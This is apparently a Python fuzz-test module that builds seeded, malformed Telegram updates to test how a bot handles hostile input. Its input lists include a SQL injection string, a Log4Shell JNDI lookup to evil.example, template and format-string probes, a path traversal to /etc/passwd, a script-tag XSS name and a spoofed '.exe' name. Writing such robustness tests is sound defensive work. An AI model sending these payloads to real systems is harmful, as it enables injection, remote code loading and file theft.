"""Updates that no honest person and no sound server would send, drawn from a seed."""

from __future__ import annotations

import copy
import random
from collections.abc import Iterator
from typing import Any

from tests.faults.telegram.people import Room, Update

_WORDS = (
    "",
    " ",
    "\n\n\n",
    "?",
    "<b>bold</b> <a href='tg://user?id=1'>x</a>",
    "**bold** _it_ `code` [x](http://evil.example) ||spoiler||",
    "</blockquote><pre>",
    "&lt;&amp;&#0;",
    "\u202eecila ot gnitirw\u202c",
    "\u2066\u2067\u2068 isolates",
    "a\u0000b\u0007c\u001b[31mred\u001b[0m",
    "\ud83d",
    "\udc00\ud800",
    "👩‍👩‍👧‍👦🏳️‍🌈🇬🇧" * 30,
    "e\u0301\u0302\u0303\u0304" * 200,
    "z" + "\u0336" * 3000,
    "What did " + "very " * 800 + "much cost?",
    "؟ ماذا قال رئيس البلدية عن الجسر",
    "' OR 1=1; DROP TABLE arrival; --",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%s%n",
    "../../../../etc/passwd",
    "Error: most recent call last",
    "NEAR OR AND NOT ( ) * ^ \" ' : -",
    "2021-02-31 since 99999999 until -1",
    "in the year 99999999999999999999999",
    "who said who said who said who said?",
    "\ufeff\u200b\u200d\u2060",
    "﷽" * 500,
    "x" * 4096,
    "😀" * 2048,
)
_COMMANDS = (
    "/start /help /privacy /about /ask /said /timeline /latest /article /alert /forget /add /remove /stats /why /ASK "
    "/ask@BylineTestBot /ask@OtherBot /said@ /@ // /start=1 /ask\u00a0x /stop /cancel /unknown"
).split()
_NAMES = (
    "Rita",
    "<script>alert(1)</script>",
    "/forget",
    "@everyone",
    "\u202egnp.exe",
    "\u0000",
    "",
    "A" * 300,
    "[x](tg://user?id=1)",
    "👑" * 64,
)
_ODD: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    2**31,
    2**53 + 1,
    2**63,
    2**64,
    10**40,
    -(10**40),
    1.5,
    1e308,
    "",
    "0",
    "NaN",
    "null",
    [],
    {},
    [None],
    [[[[[[[[]]]]]]]],
    {"id": None},
    {"": ""},
    {"message": {"message": {"message": {}}}},
    "x" * 5000,
    ["a"] * 200,
)
_PACKED = (
    "",
    "q:abc:0",
    "q:abc:999",
    "c+:" + "x" * 32 + ":1",
    "\u0000",
    "q:../../x:0",
    "zzzz",
    "q:abc:-1",
    "s" * 64,
    "😀" * 16,
    "f:yes",
    "::::",
)


def hostile_updates(seed: int, count: int, first: int, loud: float = 0.12) -> Iterator[Update]:
    """Yield *count* updates with numbers from *first* on; about the share *loud* of them asks for an answer.

    The chats of what is loud are numbers from 600,000,000 on, that others have not.
    """
    chance = random.Random(seed)
    for number in range(first, first + count):
        if chance.random() < loud:
            yield {"update_id": number, **_loud(chance)}
            continue
        update = chance.choice((_quiet, _pressed, _inline, _member, _strange))(chance)
        for _ in range(chance.choice((0, 1, 1, 2, 4))):
            _spoil(update, chance)
        yield {**update, "update_id": number}


def _loud(chance: random.Random) -> Update:
    text = chance.choice(_WORDS)
    if chance.random() < 0.5:
        text = f"{chance.choice(_COMMANDS)} {text}"
    update = Room(600_000_000 + chance.randrange(50_000), "private").write(text[:4096])
    _finish(update["message"], chance)
    return update


def _quiet(chance: random.Random) -> Update:
    """Return a message that nobody answers: of a channel, a bot, a group without a command, forwarded, edited."""
    room = Room(-1_003_000_000_000 - chance.randrange(5000), chance.choice(("group", "supergroup", "channel", "odd")))
    update = room.write(chance.choice(_WORDS).lstrip("/"))
    message = update["message"]
    _finish(message, chance)
    message.pop("entities", None)
    match chance.randrange(7):
        case 0:
            message["from"] = {**message["from"], "is_bot": True}
        case 1:
            message["forward_origin"] = {"type": "hidden_user", "date": 1, "sender_user_name": chance.choice(_NAMES)}
        case 2:
            return {"edited_message": {**message, "edit_date": 2}}
        case 3:
            return {"channel_post": message}
        case 4:
            message["entities"] = [{"type": chance.choice(("mention", "bold")), "offset": -5, "length": 10**9}]
        case 5:
            deep: Any = []
            for _ in range(chance.choice((3, 40, 150))):
                deep = {"reply_to_message": deep, "x": [deep]} if isinstance(deep, list) else {"reply_to_message": deep}
            message["reply_to_message"] = deep
        case _:
            message |= {"photo": [], "caption": chance.choice(_WORDS), "text": None}
    return update


def _pressed(chance: random.Random) -> Update:
    message = _quiet(chance).get("message")
    return {
        "callback_query": {
            "id": str(chance.randrange(10**18)),
            "from": {"id": 600_000_000, "is_bot": False, "first_name": chance.choice(_NAMES)},
            "chat_instance": "1",
            "message": message,
            "data": chance.choice(_PACKED),
        }
    }


def _inline(chance: random.Random) -> Update:
    writer = {"id": chance.choice((1, 2**52, -5)), "is_bot": False, "first_name": chance.choice(_NAMES)}
    return {
        "inline_query": {
            "id": str(chance.randrange(10**18)),
            "from": writer,
            "query": chance.choice(_WORDS)[:256],
            "offset": chance.choice(("", "1", "-1", "x" * 64, "99999999999999")),
        }
    }


def _member(chance: random.Random) -> Update:
    user = {"id": 1234567890, "is_bot": True, "first_name": "Byline"}
    states = ({"status": status, "user": user} for status in chance.choices(("member", "left", "kicked", "odd"), k=2))
    chat = {"id": -1_004_000_000_000 - chance.randrange(100), "type": "channel", "title": chance.choice(_NAMES)}
    writer = {"id": 5, "is_bot": False, "first_name": chance.choice(_NAMES)}
    return {
        "my_chat_member": {
            "chat": chat,
            "from": writer,
            "date": 1,
            **dict(zip(("old_chat_member", "new_chat_member"), states, strict=True)),
        }
    }


def _strange(chance: random.Random) -> Update:
    kind = chance.choice(
        ("poll", "shipping_query", "message_reaction", "a_kind_of_next_year", "message", "chat_member")
    )
    return {kind: copy.deepcopy(chance.choice(_ODD))}


def _finish(message: Update, chance: random.Random) -> None:
    message |= {"message_id": chance.randrange(1, 10**6), "date": chance.choice((0, 1, 1_700_000_000, 2**31 - 1))}
    message["from"] = {**message["from"], "first_name": chance.choice(_NAMES)}
    if chance.random() < 0.2:
        message["from"] |= {"last_name": chance.choice(_NAMES), "username": chance.choice(_NAMES)}


def _spoil(update: Update, chance: random.Random) -> None:
    """Put something odd in a place by chance."""
    place: Any = update
    for _ in range(chance.randrange(1, 6)):
        keys = list(place) if isinstance(place, dict) else list(range(len(place)))
        if not keys:
            return
        key = chance.choice(keys)
        inner = place[key]
        if not isinstance(inner, (dict, list)) or chance.random() < 0.3:
            if isinstance(place, dict) and chance.random() < 0.2:
                del place[key]
            else:
                place[key] = copy.deepcopy(chance.choice(_ODD))
            return
        place = inner
